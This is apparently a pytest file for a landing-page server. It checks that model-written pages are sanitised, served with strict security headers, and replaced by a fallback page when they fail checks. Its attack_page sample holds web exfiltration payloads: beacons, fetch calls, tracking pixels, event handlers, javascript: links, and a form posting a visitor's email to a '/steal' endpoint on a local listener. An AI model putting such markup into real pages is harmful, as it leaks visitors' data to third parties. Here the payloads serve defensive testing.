"""What `decompose serve` puts in front of a visitor: a model's page that tries to run, load or send something
is served with none of it (Chromium opens it and nothing reaches a listener), every response carries the
headers, and a page that fails its checks is not served at all: the visitor gets the fallback page."""

from __future__ import annotations

import httpx
import pytest

from tests.helpers import launch_chromium
from tests.serving import DANA, EXAMPLE, Listener
from workflow_core.page.safety import PagePolicy, sanitise
from workflow_core.production.fallback import segment_page
from workflow_core.run.inputs import RunInputs
from workflow_core.scenario import load_scenario
from workflow_core.testing.fake_server import FakeReply


def attack_page(origin: str) -> str:
    """A page as a model told to do harm (or fooled into it) would write it: each way out of the page to
    `origin`, on a page that otherwise reads like an offer."""
    return f"""<!DOCTYPE html><html lang="en"><head><title>Ridgeline Fieldworks for Dana</title>
<meta http-equiv="refresh" content="3;url={origin}/refresh">
<link rel="stylesheet" href="{origin}/style.css">
<style>@import url("{origin}/import.css"); .hero {{ background: url({origin}/background.png); }}</style>
<script src="{origin}/script.js"></script>
<script>navigator.sendBeacon("{origin}/beacon", "visitor"); fetch("{origin}/fetch");
new Image().src = "{origin}/pixel";</script>
<base href="{origin}/">
</head><body onload="fetch('{origin}/onload')">
<header><h1>Fewer unplanned stops for your haul trucks</h1></header>
<main><section class="hero"><p>Ridgeline Fieldworks spots failing bearings before they stop a shift.</p>
<img src="{origin}/tracker.gif" alt="a haul truck"><img src="missing.png" onerror="fetch('{origin}/onerror')" alt="">
<a id="js" href="javascript:fetch('{origin}/js-link')">See how it works</a></section>
<iframe src="{origin}/frame"></iframe><object data="{origin}/object"></object>
<svg width="10" height="10"><script>fetch('{origin}/svg-script')</script><image href="{origin}/svg-image"/></svg>
<div style="background-image: url({origin}/inline-style)">Book a site assessment</div>
<form action="{origin}/steal" method="post"><label>Email <input name="email" value="dana@example.com"></label>
<button id="send" type="submit">Send</button><button formaction="{origin}/formaction">Send too</button></form>
</main></body></html>"""


def _open_in_chromium(url: str, body: str, headers: dict[str, str]) -> dict[str, object]:
    """Open `body` as Chromium would get it from `url` with `headers`, let it run, click its link and submit
    its form; returns what the page showed, and every request it made after its own ("requests")."""
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser = launch_chromium(p)
        try:
            page = browser.new_page()
            requests: list[str] = []
            page.on("request", lambda r: requests.append(r.url) if r.url != url else None)
            page.route(url, lambda route: route.fulfill(status=200, headers=headers, body=body))
            page.goto(url)
            page.wait_for_timeout(600)
            shown = page.evaluate(
                "() => ({controls: document.querySelector('.slider-controls')?.hidden,"
                " text: document.body.innerText})"
            )
            for selector in ("#js", "#send"):
                if page.locator(selector).count():
                    page.locator(selector).first.click(timeout=2000, no_wait_after=True)
                    page.wait_for_timeout(300)
            page.wait_for_timeout(500)
            return {**shown, "requests": requests}
        finally:
            browser.close()


def test_a_served_page_sends_nothing_anywhere(serve, fake_openai) -> None:
    with Listener() as listener:
        attack = attack_page(listener.origin)
        # The page is opened as if the listener served it, so nothing but the page's own policy stands
        # between its requests and the listener. Unsanitised, it reaches the listener in many ways (so the
        # test below can fail).
        raw = _open_in_chromium(f"{listener.origin}/visitor", attack, {"Content-Type": "text/html"})
        assert len(listener.hits) >= 10 and len(raw["requests"]) >= 10, listener.hits

        fake_openai.set_responder(lambda body: FakeReply(content=attack))
        base = serve("single", allow_unpublishable=True)
        answer = httpx.post(f"{base}/v1/pages", json={"profile": DANA}, timeout=120)
        assert answer.status_code == 200, answer.text
        body = answer.json()
        assert body["gated"] is False and body["publishable"] is False
        assert any(b.startswith("integrity.executable") for b in body["blocking"])
        html = httpx.post(
            f"{base}/v1/pages", json={"profile": DANA}, headers={"Accept": "text/html"}, timeout=60
        )
        assert html.headers["content-security-policy"].startswith("default-src 'none'; script-src 'sha256-")
        assert "form-action mailto:" in html.headers["content-security-policy"]
        assert html.headers["x-content-type-options"] == "nosniff"
        assert html.headers["referrer-policy"] == "no-referrer"
        assert html.headers["x-frame-options"] == "DENY"
        assert listener.origin not in html.text and "javascript:" not in html.text
        assert "Fewer unplanned stops" in html.text  # the copy is kept

        served_headers = {k: v for k, v in html.headers.items() if k != "content-length"}
        listener.hits.clear()
        shown = _open_in_chromium(f"{listener.origin}/visitor", html.text, served_headers)
        assert "haul trucks" in str(shown["text"])
        assert listener.hits == [] and shown["requests"] == []


def test_the_design_systems_own_script_still_runs_under_the_policy(serve) -> None:
    base = serve("seed", allow_unpublishable=True)
    html = httpx.post(
        f"{base}/v1/pages", json={"profile": DANA}, headers={"Accept": "text/html"}, timeout=120
    )
    assert html.status_code == 200 and "testimonial-track" in html.text
    headers = {k: v for k, v in html.headers.items() if k != "content-length"}
    shown = _open_in_chromium(f"{base}/visitor", html.text, headers)
    assert shown["controls"] is False  # the slider's script ran: it shows the controls it drives


def test_a_page_that_fails_its_checks_is_not_served(serve, fake_openai) -> None:
    good = segment_page(RunInputs.for_profile(load_scenario(EXAMPLE), "dana-mining"))
    invented = good.replace(
        "</main>",
        "<section><h2>Talk to us today</h2><p>Write to deals@ridgeline-offers.example for $5,000 off your "
        "first site assessment.</p></section></main>",
    )
    fake_openai.set_responder(lambda body: FakeReply(content=invented))
    base = serve("single", render=False)
    answer = httpx.post(f"{base}/v1/pages", json={"profile": DANA}, timeout=120)
    assert answer.status_code == 200, answer.text
    body = answer.json()
    assert body["gated"] is True and body["publishable"] is False
    assert any(b.startswith("grounding.contact") for b in body["blocking"]), body["blocking"]
    assert "deals@ridgeline-offers.example" not in body["html"] and "$5,000" not in body["html"]
    scenario = load_scenario(EXAMPLE)
    policy = PagePolicy.for_company(scenario.company.model_dump())
    assert body["html"] == sanitise(segment_page(RunInputs.for_profile(scenario, "dana-mining")), policy)
    page = httpx.post(f"{base}/v1/pages", json={"profile": DANA}, headers={"Accept": "text/html"})
    assert page.headers["x-page-source"] == "fallback" and "blocking finding" in page.headers["x-page-gated"]
    health = httpx.get(f"{base}/healthz").json()
    assert health["pages_gated"] == 1 and health["gate"] == "on" and health["fallback"] == "segment page"

    fake_openai.set_responder(lambda body: FakeReply(content=good))
    other = {**DANA, "name": "Dana Again"}
    fine = httpx.post(
        f"{base}/v1/pages", json={"profile": other}, headers={"Accept": "text/html"}, timeout=120
    )
    assert fine.status_code == 200 and fine.headers["x-page-source"] == "model"


@pytest.mark.parametrize("configured", [True, False])
def test_the_fallback_page_can_be_a_configured_file(serve, fake_openai, configured) -> None:
    fake_openai.set_responder(
        lambda body: FakeReply(content="<html><body><p>Call 555-0100</p></body></html>")
    )
    fallback = "<!DOCTYPE html><html><body><h1>Welcome</h1><script>alert(1)</script></body></html>"
    base = serve("single", render=False, **({"fallback_page": fallback} if configured else {}))
    page = httpx.post(
        f"{base}/v1/pages", json={"profile": DANA}, headers={"Accept": "text/html"}, timeout=120
    )
    assert page.headers["x-page-source"] == "fallback"
    assert ("<h1>Welcome</h1>" in page.text) is configured and "alert(1)" not in page.text
